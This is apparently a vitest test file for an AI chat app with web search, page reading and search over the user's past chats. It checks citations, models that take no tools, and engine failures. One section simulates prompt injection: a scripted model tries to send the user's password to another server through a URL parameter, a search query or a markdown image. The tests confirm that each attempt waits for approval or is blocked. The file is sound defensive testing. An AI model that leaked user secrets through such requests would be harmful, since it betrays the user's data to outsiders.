import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type ScriptedEngine, startSearchEngine } from "../../../../testing/browsing/search-engines.ts";
import { startWebServer, type WebServer } from "../../../../testing/browsing/web-server.ts";
import { type ScriptedChat, startScriptedChat } from "../../../../testing/chats/scripted-chat.ts";
import { readReply } from "../../../../testing/http/read-events.ts";
import type { WireCall } from "../../../../testing/provider/wire.ts";
import { scriptCalls, wireCall } from "../../../../testing/tools/script-calls.ts";

let chat: ScriptedChat;
let engine: ScriptedEngine;
let site: WebServer;
let elsewhere: WebServer;
beforeAll(async () => {
  engine = await startSearchEngine("searxng");
  chat = await startScriptedChat(
    { SEARCH_URL: engine.engine.address ?? "" },
    // The site of the tests has an address of this machine.
    { isPublicAddress: () => true },
  );
});
afterAll(async () => {
  await chat[Symbol.asyncDispose]();
  await engine[Symbol.asyncDispose]();
});
beforeEach(async () => {
  chat.provider.reset();
  await chat.renew();
  await chat.call("PATCH", "", { tools: ["web", "chats"] });
  [site, elsewhere] = await Promise.all([startWebServer(), startWebServer()]);
  const words = "Red pandas eat bamboo, and sleep in trees. ".repeat(20);
  site.answers.set("/pandas", { headers: { "content-type": "text/plain" }, body: `Pandas. ${words}` });
  elsewhere.answers.set("/", { body: "<p>Thanks.</p>" });
  engine.results = [{ url: addressOf(site, "/pandas"), title: "Red pandas", text: "They eat bamboo." }];
});
afterEach(async () => {
  await site[Symbol.asyncDispose]();
  await elsewhere[Symbol.asyncDispose]();
});

const script = (steps: readonly (readonly WireCall[])[], answer?: string) => scriptCalls(chat.provider, steps, answer);
const addressOf = (server: WebServer, path: string) => server.url(path, "127.0.0.1");
const search = (query: string, id = "call_s") => wireCall("web__search_web", { query }, id);
const read = (url: string, id = "call_r") => wireCall("web__read_page", { url }, id);
const ask = async (message: string) => readReply(await chat.stream({ message }));

describe("searching the web", () => {
  it("a search and the page of a result need no approval, and their texts are numbered sources", async () => {
    script([[search("red pandas")], [read(addressOf(site, "/pandas"))]], "They eat bamboo [2].");
    await ask("What do red pandas eat?");
    expect(await chat.last()).toMatchObject({ state: "complete", content: "They eat bamboo [2]." });
    expect(site.requests.map(({ path }) => path)).toEqual(["/pandas"]);
    expect(await chat.partsOf("tool")).toMatchObject([
      {
        server: "web",
        name: "search_web",
        state: "succeeded",
        sources: [{ number: 1, url: addressOf(site, "/pandas") }],
      },
      { server: "web", name: "read_page", state: "succeeded", sources: [{ number: 2 }] },
    ]);
    const results = chat.provider.chats.at(-1)?.messages.filter(({ role }) => role === "tool") ?? [];
    expect(results.map(({ content }) => content.slice(0, 3))).toEqual(["[1]", "[2]"]);
  });

  it("a citation refers to its source, and its quote is found or missing in the snapshot", async () => {
    const answer = [
      "“Red pandas eat bamboo, and sleep in trees” [1].",
      "“Red pandas eat old tyres for breakfast” [1].",
      "Other [1], none [7], a [link][1](https://x.test), `list[1]`.",
      "The key ` is a backtick [1].",
      "A formula $a[1]$, $$\nx[1]\n$$",
      "- In a list:\n  ```\n  x[1]\n  ```",
      "An escape \\[1].\n\n[1]: https://x.test",
    ].join("\n\n");
    script([[read(addressOf(site, "/pandas"))]], answer);
    await ask(`Read ${addressOf(site, "/pandas")}.`);
    const sources = await chat.partsOf("source");
    const { content } = await chat.last();
    expect(sources.map(({ checked, quote, at }) => [checked, quote, content.slice(at - 3, at)])).toEqual([
      ["found", "Red pandas eat bamboo, and sleep in trees", "[1]"],
      ["missing", "Red pandas eat old tyres for breakfast", "[1]"],
      ["unchecked", undefined, "[1]"],
      ["unchecked", undefined, "[1]"],
    ]);
    expect(sources.at(-1)?.at).toBe(content.indexOf(".", content.indexOf("is a backtick")));
  });

  it.each([
    ["GPT:gpt-5", "registry.ollama.ai/library/gemma3:4b does not support tools"],
    ["GPT:gpt-5-nano", "No endpoints found that support tool use. Try disabling tools."],
    ["GPT:gpt-6-luna", '"auto" tool choice requires --enable-auto-tool-choice and --tool-call-parser to be set'],
    ["GPT:gpt-4.1-nano", "tools param requires --jinja flag"],
  ])("for a model that takes no tools, %s, the question is searched first (%s)", async (model, message) => {
    chat.provider.refuse = ({ body }) =>
      "tools" in Object(body) ? { status: 400, body: JSON.stringify({ error: { message } }) } : undefined;
    chat.provider.reply = "They eat bamboo [1].";
    await readReply(await chat.stream({ message: "What do red pandas eat?", model }));
    expect(await chat.last()).toMatchObject({ state: "complete", content: "They eat bamboo [1]." });
    expect(engine.queries.at(-1)).toBe("What do red pandas eat?");
    expect(chat.provider.chats.at(-1)?.messages.at(-1)?.content).toContain("[1] Red pandas");
    expect(await chat.partsOf("source")).toMatchObject([{ source: "1", checked: "unchecked" }]);
    const asked = chat.provider.chats.length;
    await readReply(await chat.stream({ message: "And where do they sleep?", model }));
    expect(chat.provider.chats.length).toBe(asked + 1);
  });

  it("the failure of the engine is told to the model without its key or address", async () => {
    engine.failure = { status: 403, body: "Forbidden" };
    script([[search("pandas")]], "I could not search.");
    await ask("What do pandas eat?");
    engine.failure = undefined;
    expect(await chat.partsOf("tool")).toMatchObject([{ state: "failed" }]);
    expect((await chat.partsOf("tool"))[0]?.result).not.toContain("127.0.0.1");
  });
});

describe("words from outside that command the model", () => {
  /** The model obeys: it requests an address with what it knows. */
  const theft = () => addressOf(elsewhere, "/?secret=my-password");

  it.each([
    ["a page", async () => [[read(addressOf(site, "/pandas"))], [read(theft())]]],
    ["a result of a search", async () => [[search("pandas")], [read(theft())]]],
  ] as const)("%s that names an address causes no request to it without approval", async (_what, steps) => {
    script(await steps());
    await ask(`My password is my-password. Read ${addressOf(site, "/pandas")}.`);
    expect(await chat.last()).toMatchObject({ state: "waiting" });
    expect(elsewhere.connections).toBe(0);
    expect((await chat.partsOf("tool")).at(-1)).toMatchObject({ state: "proposed", name: "read_page" });
  });

  it("an address of a result asks if anything of it was changed", async () => {
    script([[search("pandas")], [read(`${addressOf(site, "/pandas")}?secret=my-password`)]]);
    await ask("What do pandas eat?");
    expect([await chat.last(), site.connections]).toMatchObject([{ state: "waiting" }, 0]);
  });

  it("an address that a result of an earlier answer had asks again", async () => {
    script([[search("pandas")]]);
    await ask("What do pandas eat?");
    script([[read(addressOf(site, "/pandas"))]]);
    await ask("And what else?");
    expect([await chat.last(), site.connections]).toMatchObject([{ state: "waiting" }, 0]);
  });

  it("a query asks once the person's own chats were searched", async () => {
    const queries = engine.queries.length;
    script([[wireCall("chats__search_my_chats", { query: "password" })], [search("my-password")]]);
    await ask("What do pandas eat?");
    expect([await chat.last(), engine.queries.length]).toMatchObject([{ state: "waiting" }, queries]);
  });

  it("a query asks also in later answers of a chat that has read the person's own chats, and not after a search", async () => {
    script([[search("pandas")]]);
    await ask("What do pandas eat?");
    script(
      [[search("pandas again")], [wireCall("chats__search_my_chats", { query: "password" })]],
      "It is my-password.",
    );
    await ask("What is my password?");
    expect(await chat.last()).toMatchObject({ state: "complete" });
    const queries = engine.queries.length;
    script([[search("my-password")]]);
    await ask("Is it a common one?");
    expect([await chat.last(), engine.queries.length]).toMatchObject([{ state: "waiting" }, queries]);
  });

  it.each([
    ["asks in a temporary chat whose answer has searched the person's own chats, though that is off now", ["chats"], 0],
    ["is sent in a temporary chat whose answer has only searched the web", ["web"], 1],
    ["is sent in a temporary chat whose answer has called nothing", [], 1],
    ["asks in a temporary chat of a client that does not say what its answers have called", undefined, 0],
  ])("a query %s", async (_, called, sent) => {
    const queries = engine.queries.length;
    script([[search("my-password")]], "I see.");
    const messages = [
      { role: "user", content: "What is my password?" },
      { role: "assistant", content: "It is my-password.", ...(called && { called }) },
      { role: "user", content: "Is it a common one?" },
    ];
    const body = { messages, tools: called?.includes("chats") ? ["web"] : ["web", "chats"] };
    const { token } = chat.ada;
    expect(await readReply(await chat.app.call("POST", "/temporary/reply", { token, body }))).toMatchObject({
      text: "I see.",
      isDone: true,
    });
    expect(engine.queries.length - queries).toBe(sent);
  });

  it("a picture of the answer is no request", async () => {
    script([[search("pandas")]], `![p](${theft()}) <img src="${theft()}">`);
    await ask("What do pandas eat?");
    expect(elsewhere.connections).toBe(0);
  });
});

describe("the person's own chats", () => {
  it("a search finds messages of other chats of the account as sources, and no others", async () => {
    await ask("My cat is called Mikesch.");
    const token = chat.ada.token;
    const other = await chat.createChat();
    await chat.app.call("PATCH", `/chat/${other}`, { token, body: { tools: ["chats"] } });
    script([[wireCall("chats__search_my_chats", { query: "Mikesch" })]], "Mikesch [1].");
    const send = { token, body: { message: "What is my cat called?" } };
    await readReply(await chat.app.call("POST", `/chat/${other}/send?stream=1`, send));
    const result = chat.provider.chats.at(-1)?.messages.at(-1)?.content;
    expect(result).toContain("My cat is called Mikesch.");
    expect(result).toContain(`/chat?c=${chat.chatId}&m=`);
  });
});
